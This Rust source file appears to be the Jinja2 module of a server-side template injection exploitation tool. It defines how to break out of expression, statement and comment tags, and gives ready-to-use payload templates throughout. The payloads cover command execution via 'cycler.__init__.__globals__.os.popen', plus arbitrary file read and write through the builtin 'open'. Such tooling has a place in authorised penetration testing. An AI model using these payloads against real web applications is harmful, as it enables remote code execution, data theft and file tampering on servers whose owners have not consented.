//! Jinja2 (python)
//!
//! `{{…}}` expression tags. Identity rides python's `.upper()` string
//! method, which Twig chokes on despite sharing the delimiters. Exec, read
//! and write reach `os` and `open` through the globals of a builtin
//! template callable, the classic sandbox-free escape.

use crate::core::closures::{ClosureSet, ClosureTable, InjectionContext};
use crate::core::descriptor::{
    EngineDescriptor, EvalProbe, ExecProbe, Identity, ReadProbe, WriteProbe,
};
use crate::core::template::Template;

pub fn descriptor() -> EngineDescriptor {
    let mut closures = ClosureTable::new();
    closures.insert("quote", vec!["'", "\""]);
    closures.insert("paren", vec![")"]);
    closures.insert("bracket", vec!["]"]);
    closures.insert("brace", vec!["}"]);

    EngineDescriptor {
        name: "jinja2",
        language: "python",
        render_tag: Template::new("{{{payload}}}"),
        header_tag: Template::new("{{{header}}}"),
        trailer_tag: Template::new("{{{trailer}}}"),
        contexts: vec![
            // Trapped inside an open {{ expression }}. The suffix reopens an
            // expression so the page's own closing braces stay balanced.
            InjectionContext {
                level: 1,
                prefix: Some(Template::new("{closure}}}")),
                suffix: Some("{{1"),
                closures: vec![
                    ClosureSet {
                        level: 1,
                        specs: vec![vec![], vec!["quote"], vec!["quote", "paren"]],
                    },
                    ClosureSet {
                        level: 2,
                        specs: vec![
                            vec!["quote", "bracket"],
                            vec!["quote", "brace"],
                            vec!["quote", "paren", "paren"],
                        ],
                    },
                ],
            },
            // Trapped inside a {% statement %}.
            InjectionContext {
                level: 2,
                prefix: Some(Template::new("{closure}%}")),
                suffix: Some("{% set _ = 1"),
                closures: vec![ClosureSet {
                    level: 2,
                    specs: vec![vec![], vec!["quote"], vec!["quote", "paren"]],
                }],
            },
            // Trapped inside a {# comment #}.
            InjectionContext {
                level: 5,
                prefix: Some(Template::new("{closure}#}")),
                suffix: Some("{#"),
                closures: vec![ClosureSet {
                    level: 5,
                    specs: vec![vec![]],
                }],
            },
        ],
        closures,
        identity: Identity::Uppercase(Template::new("{{'{token}'.upper()}}")),
        eval: Some(EvalProbe {
            literal: Template::new("{{'{token}'}}"),
            language: "python",
        }),
        exec: Some(ExecProbe {
            command: Template::new(
                "{{cycler.__init__.__globals__.os.popen('{command}').read()}}",
            ),
        }),
        read: Some(ReadProbe {
            path: Template::new(
                "{{cycler.__init__.__globals__.__builtins__.open('{path}').read()}}",
            ),
        }),
        write: Some(WriteProbe {
            write: Template::new(
                "{{cycler.__init__.__globals__.__builtins__.open('{path}','w').write('{data}')}}",
            ),
        }),
    }
}
